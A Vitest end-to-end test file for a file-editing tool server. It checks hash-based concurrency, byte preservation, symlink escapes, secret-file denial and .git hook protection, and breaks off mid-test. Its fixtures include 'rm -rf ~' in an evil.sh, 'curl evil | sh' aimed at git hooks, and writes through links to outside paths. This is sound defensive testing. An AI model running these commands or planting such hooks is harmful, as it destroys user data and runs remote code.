/**
 * The mutating file tools end to end (SPEC §5, §6.2, §4.1, §4.3, §4.4), against the real server process of both
 * protocol eras. Pins:
 *  - OCC: read → edit with the returned hash succeeds and returns the new hash; an external write between read and
 *    edit is OCC_MISMATCH (retryable, read_and_rebase, expected/current hash, conflict.reason modified with the
 *    changed lines) and the external bytes stay; a blind write of an unread file is HASH_REQUIRED with the real
 *    current_hash; expected_hash "absent" on an existing file is OCC_MISMATCH reason created; --auto-occ=warn proceeds
 *    with external_change, --auto-occ=off proceeds (explicit hashes still bind);
 *  - bytes: CRLF, mixed EOL, BOM, no final newline, mode 0755 (edit and write), `Bäcker €`; non-UTF-8 refused by
 *    edit_file (VALIDATION reason binary);
 *  - edits: `$&` family literal, ambiguous (count 2), empty old_text VALIDATION, edit 3 of 3 failing writes nothing,
 *    REWRITE_BLOCKED on both sides of the threshold;
 *  - escapes: writes through a link to an outside file, a dangling link to an outside path, a directory link, and
 *    create_directory beneath a directory link are NOT_ALLOWED with the outside tree byte-identical; writing a hard
 *    link to an outside file replaces the link, never the outside bytes;
 *  - move_path (destination_exists unless overwrite with the destination's hash; a symlink moves as a link),
 *    create_directory (all levels; idempotent), delete_path (recursive needed; a .env inside refuses the whole);
 *  - --readonly (tools absent, READONLY on call), --mutation-budget (dry runs and failures are free);
 *  - .git/hooks/pre-commit cannot be written, moved onto or into, or deleted;
 *  - dry_run of write_file/edit_file returns the would-be hash and writes nothing.
 * Every rejection asserts the code and that the bytes, modes and listings involved are unchanged.
 * Under both eras except the escapes from the roots (legacy) and .git (modern), which run once: refusals decided by
 * the server on the filesystem, the same error result in both eras; and, once each, the REWRITE_BLOCKED threshold
 * (modern: the server's count of replaced lines) and the process flags but --readonly (--auto-occ=warn and
 * --mutation-budget=2 modern, --auto-occ=off and --mutation-budget=3 legacy: what a flag lets through is decided by
 * the server, and the results' shapes are checked under both eras by the cases above). --readonly runs under both:
 * it changes tools/list, which each era's client reads.
 */
import {
  chmodSync,
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it, test } from 'vitest';
import { expectCode } from '../helpers/protocol-asserts.js';
import { connect, ERAS, inEra, type Era, type TestClient } from '../helpers/server.js';
import { contentHash, snapshotTree } from '../helpers/snapshot.js';
import { makeTree, symlink, writeTree, type TreeSpec } from '../helpers/tree.js';

const MUTATING_TOOLS = ['write_file', 'edit_file', 'apply_patch', 'move_path', 'delete_path', 'create_directory'];

/** A server of `era` over a fresh root R, with its own state dir, plus an outside directory O. */
function useServer(era: Era, flags: string[] = []) {
  const env = {
    R: '',
    O: '',
    client: undefined as unknown as TestClient,
    n: 0,
    cleanups: [] as Array<() => void>,
  };
  beforeAll(async () => {
    const r = makeTree();
    const o = makeTree({}, 'fs-tools-outside-');
    const s = makeTree({}, 'fs-tools-state-');
    env.cleanups.push(r.cleanup, o.cleanup, s.cleanup);
    env.R = r.dir;
    env.O = o.dir;
    env.client = await connect(era, { args: ['--state-dir', s.dir, ...flags, r.dir] });
  });
  afterAll(async () => {
    const stderr = env.client?.stderr() ?? '';
    await env.client?.close();
    for (const c of env.cleanups) c();
    // No call of the scenario may have been an INTERNAL incident (logged to stderr with its stack).
    expect(stderr).not.toMatch(/INTERNAL|incident/);
  });
  return {
    get client() {
      return env.client;
    },
    get R() {
      return env.R;
    },
    get O() {
      return env.O;
    },
    /** A fresh directory under R holding `spec`. */
    area(spec: TreeSpec = {}): string {
      const d = path.join(env.R, `t${++env.n}`);
      mkdirSync(d);
      writeTree(d, spec);
      return d;
    },
    /** A fresh directory under O holding `spec`. */
    outside(spec: TreeSpec = {}): string {
      const d = path.join(env.O, `o${++env.n}`);
      mkdirSync(d);
      writeTree(d, spec);
      return d;
    },
  };
}

const bytesOf = (p: string) => readFileSync(p);
const modeOf = (p: string) => statSync(p).mode & 0o7777;

describe.each(ERAS)('mutations (%s era)', (era) => {
  const s = useServer(era);
  const modernOnly = inEra(era, 'modern', describe);
  const legacyOnly = inEra(era, 'legacy', describe);

  describe('optimistic concurrency', () => {
    it('read → edit with the returned hash succeeds and returns the new hash', async () => {
      const f = path.join(s.area({ 'f.txt': 'alpha\nbeta\n' }), 'f.txt');
      const read = await s.client.callOk('read_file', { path: f });
      expect(read.content_hash).toBe(contentHash('alpha\nbeta\n'));
      const r = await s.client.callOk('edit_file', {
        path: f,
        edits: [{ old_text: 'beta', new_text: 'gamma' }],
        expected_hash: read.content_hash,
      });
      expect(bytesOf(f).toString()).toBe('alpha\ngamma\n');
      expect(r.previous_hash).toBe(read.content_hash);
      expect(r.content_hash).toBe(contentHash('alpha\ngamma\n'));
      expect(r.replacements).toBe(1);
      expect(r.diff).toContain('-beta');
      expect(r.diff).toContain('+gamma');
      // The session now knows the new hash: the next edit needs no plumbing.
      const again = await s.client.callOk('edit_file', { path: f, edits: [{ old_text: 'gamma', new_text: 'delta' }] });
      expect(again.previous_hash).toBe(r.content_hash);
      expect(bytesOf(f).toString()).toBe('alpha\ndelta\n');
    });

    it('an edit result leaves out what it already says (issue #15): per-edit facts only when not one exact match each, path only through a link', async () => {
      const d = s.area({ 'f.txt': 'a = 1\nb = 2\nb = 2\n', link: symlink('f.txt') });
      const f = path.join(d, 'f.txt');
      await s.client.callOk('read_file', { path: f });
      const one = await s.client.callOk('edit_file', { path: f, edits: [{ old_text: 'a = 1', new_text: 'a = 3' }] });
      expect(Object.keys(one).sort()).toEqual(['content_hash', 'diff', 'dry_run', 'previous_hash', 'replacements']);
      const all = await s.client.callOk('edit_file', {
        path: path.join(d, 'link'),
        edits: [{ old_text: 'b = 2', new_text: 'b = 4', replace_all: true }],
      });
      expect(all.path).toBe(f); // the real path changed, named because a link was followed
      expect(all.replacements).toBe(2);
      expect(all.edits).toEqual([{ index: 0, replacements: 2, match: 'exact', lines: [2, 3] }]);
      expect(all).not.toHaveProperty('diff_truncated');
      expect(bytesOf(f).toString()).toBe('a = 3\nb = 4\nb = 4\n');
      const written = await s.client.callOk('write_file', { path: path.join(d, 'link'), content: 'x\n' });
      expect(written.path).toBe(f);
      const created = await s.client.callOk('write_file', { path: path.join(d, 'new.txt'), content: 'y\n' });
      expect(created).not.toHaveProperty('path');
    });

    test.each([
      ['explicit expected_hash', true],
      ['remembered hash (auto-occ block)', false],
    ])('an external write between read and edit is OCC_MISMATCH (%s)', async (_label, explicit) => {
      const f = path.join(s.area({ 'f.txt': 'l1\nl2\nl3\nl4\nl5\n' }), 'f.txt');
      const read = await s.client.callOk('read_file', { path: f });
      const external = 'l1\nl2\nL3 changed elsewhere\nl4\nl5\n';
      writeFileSync(f, external);
      const before = snapshotTree(path.dirname(f), { withMtime: true });
      const e = expectCode(
        await s.client.call('edit_file', {
          path: f,
          edits: [{ old_text: 'l1', new_text: 'L1' }],
          ...(explicit ? { expected_hash: read.content_hash } : {}),
        }),
        'OCC_MISMATCH',
      );
      expect(e.error.retryable).toBe(true);
      expect(e.error.recovery).toBe('read_and_rebase');
      expect(e.error.path).toBe(f);
      expect(e.error.expected_hash).toBe(read.content_hash);
      expect(e.error.current_hash).toBe(contentHash(external));
      expect(e.error.conflict).toEqual({
        reason: 'modified',
        changed_ranges: [[3, 3]],
        bytes_delta: external.length - 15,
      });
      expect(bytesOf(f).toString()).toBe(external);
      expect(snapshotTree(path.dirname(f), { withMtime: true })).toEqual(before);
    });

    it('a blind write_file to an unread existing file is HASH_REQUIRED with the real current_hash', async () => {
      const d = s.area({ 'f.txt': 'original\n' });
      const f = path.join(d, 'f.txt');
      const before = snapshotTree(d, { withMtime: true });
      const e = expectCode(await s.client.call('write_file', { path: f, content: 'clobbered\n' }), 'HASH_REQUIRED');
      expect(e.error.details.current_hash).toBe(contentHash('original\n'));
      expect(e.error.retryable).toBe(true);
      expect(e.error.recovery).toBe('read_and_rebase');
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
      // The hash from the envelope is enough to proceed.
      const ok = await s.client.callOk('write_file', {
        path: f,
        content: 'replaced\n',
        expected_hash: e.error.details.current_hash,
      });
      expect(ok.created).toBe(false);
      expect(bytesOf(f).toString()).toBe('replaced\n');
    });

    test.each(['edit_file', 'delete_path'])('%s of an unread file is HASH_REQUIRED too', async (tool) => {
      const d = s.area({ 'f.txt': 'x\n' });
      const before = snapshotTree(d, { withMtime: true });
      const args =
        tool === 'edit_file'
          ? { path: path.join(d, 'f.txt'), edits: [{ old_text: 'x', new_text: 'y' }] }
          : { path: path.join(d, 'f.txt') };
      expectCode(await s.client.call(tool, args), 'HASH_REQUIRED');
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
    });

    it('expected_hash "absent" on an existing file is OCC_MISMATCH reason created', async () => {
      const d = s.area({ 'f.txt': 'exists\n' });
      const before = snapshotTree(d, { withMtime: true });
      const e = expectCode(
        await s.client.call('write_file', { path: path.join(d, 'f.txt'), content: 'new\n', expected_hash: 'absent' }),
        'OCC_MISMATCH',
      );
      expect(e.error.conflict).toMatchObject({ reason: 'created' });
      expect(e.error.expected_hash).toBe('absent');
      expect(e.error.current_hash).toBe(contentHash('exists\n'));
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
      // and "absent" on a missing file creates it
      const ok = await s.client.callOk('write_file', {
        path: path.join(d, 'g.txt'),
        content: 'g\n',
        expected_hash: 'absent',
      });
      expect(ok.created).toBe(true);
    });

    it('a file deleted after the read is OCC_MISMATCH reason deleted, and nothing is recreated', async () => {
      const d = s.area({ 'f.txt': 'soon gone\n' });
      const f = path.join(d, 'f.txt');
      const read = await s.client.callOk('read_file', { path: f });
      rmSync(f);
      const e = expectCode(
        await s.client.call('write_file', { path: f, content: 'x\n', expected_hash: read.content_hash }),
        'OCC_MISMATCH',
      );
      expect(e.error.conflict).toMatchObject({ reason: 'deleted' });
      expect(e.error.current_hash).toBe(null);
      // issue 21: a deleted file cannot be re-read: not retryable, recovery fix_arguments (re-create with "absent").
      expect(e.error.retryable).toBe(false);
      expect(e.error.recovery).toBe('fix_arguments');
      expect(existsSync(f)).toBe(false);
    });
  });

  describe('bytes are kept', () => {
    /** Edits `file` (given bytes) through the server after reading it; returns the bytes on disk. */
    async function edit(initial: Buffer | string, edits: Array<Record<string, unknown>>): Promise<Buffer> {
      const f = path.join(s.area({ 'f.txt': Buffer.from(initial) }), 'f.txt');
      await s.client.callOk('read_file', { path: f, encoding: 'base64' });
      const r = await s.client.callOk('edit_file', { path: f, edits });
      const after = bytesOf(f);
      expect(r.content_hash).toBe(contentHash(after));
      return after;
    }

    test.each<[string, string, Array<Record<string, unknown>>, string]>([
      [
        'CRLF stays CRLF',
        'one\r\ntwo\r\nthree\r\n',
        [{ old_text: 'two\n', new_text: 'TWO\nTWO-B\n' }],
        'one\r\nTWO\r\nTWO-B\r\nthree\r\n',
      ],
      [
        'mixed EOL: untouched lines keep theirs',
        'a\r\nb\nc\r\nd\n',
        [{ old_text: 'c', new_text: 'C' }],
        'a\r\nb\nC\r\nd\n',
      ],
      [
        'UTF-8 BOM survives',
        '\uFEFFbom first\nsecond\n',
        [{ old_text: 'bom first', new_text: 'BOM FIRST' }],
        '\uFEFFBOM FIRST\nsecond\n',
      ],
      ['no final newline stays none', 'a\nb', [{ old_text: 'b', new_text: 'B' }], 'a\nB'],
      [
        'Bäcker € round-trips',
        'Bäcker €\n',
        [{ old_text: 'Bäcker', new_text: 'Bäcker € Müller' }],
        'Bäcker € Müller €\n',
      ],
    ])('edit_file: %s', async (_label, initial, edits, expected) => {
      expect(await edit(initial, edits)).toEqual(Buffer.from(expected, 'utf8'));
    });

    it('write_file writes exactly the given bytes (Bäcker €, CRLF, no final newline)', async () => {
      const d = s.area();
      const content = '\uFEFFBäcker €\r\nzweite Zeile';
      const r = await s.client.callOk('write_file', { path: path.join(d, 'n.txt'), content });
      expect(bytesOf(path.join(d, 'n.txt'))).toEqual(Buffer.from(content, 'utf8'));
      expect(r.content_hash).toBe(contentHash(Buffer.from(content, 'utf8')));
      expect(r.bytes).toBe(Buffer.byteLength(content));
      const read = await s.client.callOk('read_file', { path: path.join(d, 'n.txt') });
      expect(read.content).toBe(content);
    });

    it('mode 0755 stays 0755 after edit_file and after write_file', async () => {
      const d = s.area({ 'run.sh': '#!/bin/sh\necho one\n' });
      const f = path.join(d, 'run.sh');
      chmodSync(f, 0o755);
      await s.client.callOk('read_file', { path: f });
      await s.client.callOk('edit_file', { path: f, edits: [{ old_text: 'one', new_text: 'two' }] });
      expect(modeOf(f)).toBe(0o755);
      expect(bytesOf(f).toString()).toBe('#!/bin/sh\necho two\n');
      await s.client.callOk('write_file', { path: f, content: '#!/bin/sh\necho three\n' });
      expect(modeOf(f)).toBe(0o755);
      expect(bytesOf(f).toString()).toBe('#!/bin/sh\necho three\n');
      chmodSync(f, 0o600);
      await s.client.callOk('write_file', {
        path: f,
        content: 'private\n',
        expected_hash: contentHash('#!/bin/sh\necho three\n'),
      });
      expect(modeOf(f)).toBe(0o600);
    });

    it('edit_file refuses a non-UTF-8 file (VALIDATION reason binary) and leaves its bytes', async () => {
      const bytes = Buffer.from([0x41, 0xc3, 0x28, 0x0a, 0xff, 0x42, 0x0a]);
      const d = s.area({ 'bin.txt': bytes });
      const before = snapshotTree(d, { withMtime: true });
      const e = expectCode(
        await s.client.call('edit_file', {
          path: path.join(d, 'bin.txt'),
          edits: [{ old_text: 'B', new_text: 'C' }],
          expected_hash: contentHash(bytes),
        }),
        'VALIDATION',
      );
      expect(e.error.details.reason).toBe('binary');
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
    });
  });

  describe('edits through the server', () => {
    async function fileWith(content: string): Promise<{ f: string; d: string }> {
      const d = s.area({ 'f.txt': content });
      await s.client.callOk('read_file', { path: path.join(d, 'f.txt') });
      return { d, f: path.join(d, 'f.txt') };
    }

    it("inserts $&, $$, $` and $' literally", async () => {
      const { f } = await fileWith('price = X;\n');
      const newText = "$& $$ $` $' $1";
      await s.client.callOk('edit_file', { path: f, edits: [{ old_text: 'X', new_text: newText }] });
      expect(bytesOf(f).toString()).toBe(`price = ${newText};\n`);
    });

    it('ambiguous old_text is PATCH_FAILED with count 2, file unchanged', async () => {
      const { f, d } = await fileWith('x = 1;\ny = 2;\nx = 1;\n');
      const before = snapshotTree(d, { withMtime: true });
      const e = expectCode(
        await s.client.call('edit_file', { path: f, edits: [{ old_text: 'x = 1;', new_text: 'x = 9;' }] }),
        'PATCH_FAILED',
      );
      expect(e.error.details).toMatchObject({ reason: 'ambiguous', count: 2, candidates: [1, 3], edit_index: 0 });
      expect(e.error.details.current_hash).toBe(contentHash('x = 1;\ny = 2;\nx = 1;\n'));
      expect(e.error.retryable).toBe(false);
      expect(e.error.recovery).toBe('read_and_rebase');
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
      await s.client.callOk('edit_file', {
        path: f,
        edits: [{ old_text: 'x = 1;', new_text: 'x = 9;', replace_all: true }],
      });
      expect(bytesOf(f).toString()).toBe('x = 9;\ny = 2;\nx = 9;\n');
    });

    it('empty old_text is VALIDATION, file unchanged', async () => {
      const { f, d } = await fileWith('abc\n');
      const before = snapshotTree(d, { withMtime: true });
      expectCode(await s.client.call('edit_file', { path: f, edits: [{ old_text: '', new_text: 'x' }] }), 'VALIDATION');
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
    });

    it('edit 3 of 3 failing leaves the file untouched', async () => {
      const { f, d } = await fileWith('one\ntwo\nthree\n');
      const before = snapshotTree(d, { withMtime: true });
      const e = expectCode(
        await s.client.call('edit_file', {
          path: f,
          edits: [
            { old_text: 'one', new_text: 'ONE' },
            { old_text: 'two', new_text: 'TWO' },
            { old_text: 'four', new_text: 'FOUR' },
          ],
        }),
        'PATCH_FAILED',
      );
      expect(e.error.details.reason).toBe('no_match');
      expect(e.error.details.edit_index).toBe(2);
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
    });

    it('an indentation difference is no_match with a whitespace-only first difference', async () => {
      const { f, d } = await fileWith('function f() {\n  return 1;\n}\n');
      const before = snapshotTree(d, { withMtime: true });
      const e = expectCode(
        await s.client.call('edit_file', {
          path: f,
          edits: [{ old_text: 'function f() {\n    return 1;', new_text: 'function f() {\n    return 2;' }],
        }),
        'PATCH_FAILED',
      );
      expect(e.error.details.reason).toBe('no_match');
      expect(e.error.details.nearest.first_difference).toMatchObject({ line: 2, whitespace_only: true });
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
    });

    const TEN = Array.from({ length: 10 }, (_, i) => `line ${i + 1}`).join('\n') + '\n';
    const NINE = Array.from({ length: 9 }, (_, i) => `line ${i + 1}`).join('\n') + '\n';
    /** Replaces the first `k` lines of `text`. */
    const replaceFirst = (text: string, k: number) => ({
      old_text: text.split('\n').slice(0, k).join('\n'),
      new_text: Array.from({ length: k }, (_, i) => `new ${i + 1}`).join('\n'),
    });

    modernOnly('the REWRITE_BLOCKED threshold', () => {
      test.each<[string, string, number, boolean, boolean]>([
        // label, file, lines replaced, allow_rewrite, blocked
        ['10 lines, 9 replaced (90%)', TEN, 9, false, true],
        ['10 lines, all replaced', TEN, 10, false, true],
        ['10 lines, 8 replaced (80%)', TEN, 8, false, false],
        ['9 lines, all replaced', NINE, 9, false, false],
        ['10 lines, all replaced with allow_rewrite', TEN, 10, true, false],
      ])('REWRITE_BLOCKED threshold: %s', async (_label, content, k, allowRewrite, blocked) => {
        const { f, d } = await fileWith(content);
        const before = snapshotTree(d, { withMtime: true });
        const call = await s.client.call('edit_file', {
          path: f,
          edits: [replaceFirst(content, k)],
          allow_rewrite: allowRewrite,
        });
        if (blocked) {
          const e = expectCode(call, 'REWRITE_BLOCKED');
          expect(e.error.details).toMatchObject({ threshold: 0.9, min_lines: 10, lines: 10 });
          expect(snapshotTree(d, { withMtime: true })).toEqual(before);
        } else {
          expect(call.isError, call.content[0]?.text).toBeFalsy();
          expect(bytesOf(f).toString()).toContain('new 1\n');
        }
      });
    });
  });

  legacyOnly('escapes from the roots', () => {
    /** Runs `call` expecting NOT_ALLOWED, and checks O and the area are unchanged. */
    async function refused(
      area: string,
      call: () => Promise<import('../helpers/server.js').CallResult>,
    ): Promise<void> {
      const outsideBefore = snapshotTree(s.O, { withMtime: true });
      const areaBefore = snapshotTree(area, { withMtime: true });
      expectCode(await call(), 'NOT_ALLOWED');
      expect(snapshotTree(s.O, { withMtime: true })).toEqual(outsideBefore);
      expect(snapshotTree(area, { withMtime: true })).toEqual(areaBefore);
    }

    it('write_file through R/link → O/f is NOT_ALLOWED', async () => {
      const o = s.outside({ f: 'outside bytes\n' });
      const d = s.area({ link: symlink(path.join(o, 'f')) });
      await refused(d, () =>
        s.client.call('write_file', {
          path: path.join(d, 'link'),
          content: 'pwned\n',
          expected_hash: contentHash('outside bytes\n'),
        }),
      );
      await refused(d, () =>
        s.client.call('edit_file', {
          path: path.join(d, 'link'),
          edits: [{ old_text: 'outside', new_text: 'pwned' }],
          expected_hash: contentHash('outside bytes\n'),
        }),
      );
    });

    it('write_file through a dangling R/new → O/absent creates nothing in O', async () => {
      const o = s.outside();
      const d = s.area({ new: symlink(path.join(o, 'absent')) });
      await refused(d, () => s.client.call('write_file', { path: path.join(d, 'new'), content: 'pwned\n' }));
      await refused(d, () =>
        s.client.call('write_file', { path: path.join(d, 'new'), content: 'pwned\n', expected_hash: 'absent' }),
      );
      expect(existsSync(path.join(o, 'absent'))).toBe(false);
    });

    it('write_file into R/d/x where R/d → O is NOT_ALLOWED', async () => {
      const o = s.outside();
      const d = s.area({ d: symlink(o) });
      await refused(d, () => s.client.call('write_file', { path: path.join(d, 'd', 'x'), content: 'pwned\n' }));
      await refused(d, () =>
        s.client.call('write_file', { path: path.join(d, 'd', 'sub', 'x'), content: 'pwned\n', create_dirs: true }),
      );
    });

    it('write_file with create_dirs through a dangling directory link is NOT_ALLOWED', async () => {
      const o = s.outside();
      const d = s.area({ dl: symlink(path.join(o, 'missing-dir')) });
      await refused(d, () =>
        s.client.call('write_file', { path: path.join(d, 'dl', 'x'), content: 'pwned\n', create_dirs: true }),
      );
      expect(existsSync(path.join(o, 'missing-dir'))).toBe(false);
    });

    it('create_directory R/d/sub where R/d → O is NOT_ALLOWED', async () => {
      const o = s.outside();
      const d = s.area({ d: symlink(o) });
      await refused(d, () => s.client.call('create_directory', { path: path.join(d, 'd', 'sub') }));
      await refused(d, () => s.client.call('create_directory', { path: path.join(d, 'd', 'sub', 'deeper') }));
    });

    it('move_path and delete_path cannot reach through a directory link to O', async () => {
      const o = s.outside({ f: 'outside\n' });
      const d = s.area({ d: symlink(o), 'mine.txt': 'mine\n' });
      await refused(d, () =>
        s.client.call('move_path', { source: path.join(d, 'mine.txt'), destination: path.join(d, 'd', 'moved.txt') }),
      );
      await refused(d, () =>
        s.client.call('move_path', { source: path.join(d, 'd', 'f'), destination: path.join(d, 'stolen.txt') }),
      );
      await refused(d, () =>
        s.client.call('delete_path', { path: path.join(d, 'd', 'f'), expected_hash: contentHash('outside\n') }),
      );
    });

    it('delete_path and move_path of R/link → O/f act on the link; O/f stays', async () => {
      const o = s.outside({ f: 'outside bytes\n' });
      const d = s.area({ link: symlink(path.join(o, 'f')), link2: symlink(path.join(o, 'f')) });
      const outsideBefore = snapshotTree(s.O, { withMtime: true });
      const moved = await s.client.callOk('move_path', {
        source: path.join(d, 'link2'),
        destination: path.join(d, 'moved-link'),
      });
      expect(moved.content_hash).toBe(null);
      const r = await s.client.callOk('delete_path', { path: path.join(d, 'link') });
      expect(r.type).toBe('symlink');
      expect(existsSync(path.join(d, 'link'))).toBe(false);
      expect(readlinkSync(path.join(d, 'moved-link'))).toBe(path.join(o, 'f'));
      expect(snapshotTree(s.O, { withMtime: true })).toEqual(outsideBefore);
    });

    it('a recursive delete of a tree holding a link to O removes the link, not O', async () => {
      const o = s.outside({ f: 'outside\n', sub: { g: 'g\n' } });
      const d = s.area({ tree: { 'a.txt': 'a\n', out: symlink(o), deep: { out2: symlink(path.join(o, 'sub')) } } });
      const outsideBefore = snapshotTree(s.O, { withMtime: true });
      await s.client.callOk('delete_path', { path: path.join(d, 'tree'), recursive: true });
      expect(existsSync(path.join(d, 'tree'))).toBe(false);
      expect(snapshotTree(s.O, { withMtime: true })).toEqual(outsideBefore);
    });

    it('writing a hard link R/hl to an outside file O/f leaves O/f unchanged', async () => {
      const o = s.outside({ f: 'outside original\n' });
      chmodSync(path.join(o, 'f'), 0o640);
      const d = s.area();
      linkSync(path.join(o, 'f'), path.join(d, 'hl'));
      const outsideBefore = snapshotTree(s.O, { withMtime: true });
      const call = await s.client.call('write_file', {
        path: path.join(d, 'hl'),
        content: 'new content\n',
        expected_hash: contentHash('outside original\n'),
      });
      // The rename replaces the directory entry R/hl; the shared inode (O/f) is never written through.
      expect(call.isError, call.content[0]?.text).toBeFalsy();
      expect(bytesOf(path.join(d, 'hl')).toString()).toBe('new content\n');
      expect(statSync(path.join(o, 'f')).nlink).toBe(1);
      expect(snapshotTree(s.O, { withMtime: true })).toEqual(outsideBefore);
      expect(bytesOf(path.join(o, 'f')).toString()).toBe('outside original\n');
    });
  });

  describe('move, create, delete', () => {
    it('move_path onto an existing destination is refused unless overwrite with the destination hash', async () => {
      const d = s.area({ 'a.txt': 'source\n', 'b.txt': 'destination\n' });
      const before = snapshotTree(d, { withMtime: true });
      const e = expectCode(
        await s.client.call('move_path', { source: path.join(d, 'a.txt'), destination: path.join(d, 'b.txt') }),
        'VALIDATION',
      );
      expect(e.error.details.reason).toBe('destination_exists');
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
      // overwrite without any hash of the unread destination: HASH_REQUIRED, still nothing moved
      expectCode(
        await s.client.call('move_path', {
          source: path.join(d, 'a.txt'),
          destination: path.join(d, 'b.txt'),
          overwrite: true,
        }),
        'HASH_REQUIRED',
      );
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
      // overwrite with a wrong hash: OCC_MISMATCH
      expectCode(
        await s.client.call('move_path', {
          source: path.join(d, 'a.txt'),
          destination: path.join(d, 'b.txt'),
          overwrite: true,
          expected_hash: contentHash('other\n'),
        }),
        'OCC_MISMATCH',
      );
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
      const r = await s.client.callOk('move_path', {
        source: path.join(d, 'a.txt'),
        destination: path.join(d, 'b.txt'),
        overwrite: true,
        expected_hash: contentHash('destination\n'),
      });
      expect(r.overwritten).toBe(true);
      expect(r.previous_destination_hash).toBe(contentHash('destination\n'));
      expect(existsSync(path.join(d, 'a.txt'))).toBe(false);
      expect(bytesOf(path.join(d, 'b.txt')).toString()).toBe('source\n');
    });

    it('moving a symlink moves the link, not its target', async () => {
      const o = s.outside({ 'target.txt': 'outside target\n' });
      const d = s.area({
        'target.txt': 'inside target\n',
        link: symlink('target.txt'),
        out: symlink(path.join(o, 'target.txt')),
        sub: {},
      });
      const outsideBefore = snapshotTree(s.O, { withMtime: true });
      const targetBefore = lstatSync(path.join(d, 'target.txt'));
      const r = await s.client.callOk('move_path', {
        source: path.join(d, 'link'),
        destination: path.join(d, 'link2'),
      });
      expect(r.type).toBe('symlink');
      expect(existsSync(path.join(d, 'link'))).toBe(false);
      expect(lstatSync(path.join(d, 'link2')).isSymbolicLink()).toBe(true);
      expect(readlinkSync(path.join(d, 'link2'))).toBe('target.txt');
      expect(lstatSync(path.join(d, 'target.txt')).ino).toBe(targetBefore.ino);
      expect(bytesOf(path.join(d, 'target.txt')).toString()).toBe('inside target\n');
      // A link pointing outside moves as a link too, and nothing outside changes.
      await s.client.callOk('move_path', { source: path.join(d, 'out'), destination: path.join(d, 'sub', 'out') });
      expect(readlinkSync(path.join(d, 'sub', 'out'))).toBe(path.join(o, 'target.txt'));
      expect(snapshotTree(s.O, { withMtime: true })).toEqual(outsideBefore);
    });

    it('create_directory creates every level and is idempotent', async () => {
      const d = s.area();
      const r = await s.client.callOk('create_directory', { path: path.join(d, 'a', 'b', 'c') });
      expect(r.created).toBe(true);
      for (const p of ['a', 'a/b', 'a/b/c']) expect(lstatSync(path.join(d, p)).isDirectory()).toBe(true);
      const again = await s.client.callOk('create_directory', { path: path.join(d, 'a', 'b', 'c') });
      expect(again.created).toBe(false);
      // A file in the way: VALIDATION, nothing created.
      writeFileSync(path.join(d, 'file'), 'x');
      const before = snapshotTree(d, { withMtime: true });
      expectCode(await s.client.call('create_directory', { path: path.join(d, 'file', 'sub') }), 'VALIDATION');
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
    });

    it('delete_path of a non-empty directory needs recursive: true', async () => {
      const d = s.area({ dir: { 'a.txt': 'a\n', sub: { 'b.txt': 'b\n' } } });
      const before = snapshotTree(d, { withMtime: true });
      const e = expectCode(await s.client.call('delete_path', { path: path.join(d, 'dir') }), 'VALIDATION');
      expect(e.error.details.reason).toBe('directory_not_empty');
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
      const r = await s.client.callOk('delete_path', { path: path.join(d, 'dir'), recursive: true });
      expect(r.type).toBe('directory');
      expect(existsSync(path.join(d, 'dir'))).toBe(false);
    });

    it('a recursive delete of a tree holding a .env is SECRET_DENIED and deletes nothing', async () => {
      const d = s.area({ proj: { 'a.txt': 'a\n', deep: { '.env': 'TOKEN=x\n', 'b.txt': 'b\n' } } });
      const before = snapshotTree(d, { withMtime: true });
      const e = expectCode(
        await s.client.call('delete_path', { path: path.join(d, 'proj'), recursive: true }),
        'SECRET_DENIED',
      );
      expect(JSON.stringify(e)).not.toContain('TOKEN=x');
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
    });

    it('move_path neither moves a secret nor creates one', async () => {
      const d = s.area({ '.env': 'TOKEN=1\n', 'a.txt': 'a\n' });
      const before = snapshotTree(d, { withMtime: true });
      for (const [source, destination] of [
        ['.env', 'env.txt'],
        ['a.txt', '.env.local'],
        ['a.txt', 'id_rsa'],
      ]) {
        const e = expectCode(
          await s.client.call('move_path', { source: path.join(d, source), destination: path.join(d, destination) }),
          'SECRET_DENIED',
        );
        expect(JSON.stringify(e)).not.toContain('TOKEN=1');
      }
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
    });

    it('write_file through a link inside the roots writes its target and keeps the link', async () => {
      const d = s.area({ 'real.txt': 'old\n', alias: symlink('real.txt') });
      await s.client.callOk('read_file', { path: path.join(d, 'alias') });
      const r = await s.client.callOk('write_file', { path: path.join(d, 'alias'), content: 'new\n' });
      expect(r.path).toBe(path.join(d, 'real.txt'));
      expect(lstatSync(path.join(d, 'alias')).isSymbolicLink()).toBe(true);
      expect(bytesOf(path.join(d, 'real.txt')).toString()).toBe('new\n');
    });

    it('delete_path of a symlink deletes the link only', async () => {
      const d = s.area({ 'target.txt': 'kept\n', link: symlink('target.txt') });
      await s.client.callOk('delete_path', { path: path.join(d, 'link') });
      expect(existsSync(path.join(d, 'link'))).toBe(false);
      expect(bytesOf(path.join(d, 'target.txt')).toString()).toBe('kept\n');
    });
  });

  modernOnly('.git is never written', () => {
    it('.git/hooks/pre-commit cannot be written, moved onto or into, or deleted', async () => {
      const hook = '#!/bin/sh\nexit 0\n';
      const d = s.area({
        '.git': { hooks: { 'pre-commit': hook }, HEAD: 'ref: refs/heads/main\n' },
        'evil.sh': '#!/bin/sh\nrm -rf ~\n',
      });
      chmodSync(path.join(d, '.git/hooks/pre-commit'), 0o755);
      const pre = path.join(d, '.git', 'hooks', 'pre-commit');
      const before = snapshotTree(d, { withMtime: true });
      const attempts: Array<[string, Record<string, unknown>]> = [
        ['write_file', { path: pre, content: 'curl evil | sh\n', expected_hash: contentHash(hook) }],
        ['write_file', { path: path.join(d, '.git', 'hooks', 'post-checkout'), content: 'curl evil | sh\n' }],
        [
          'edit_file',
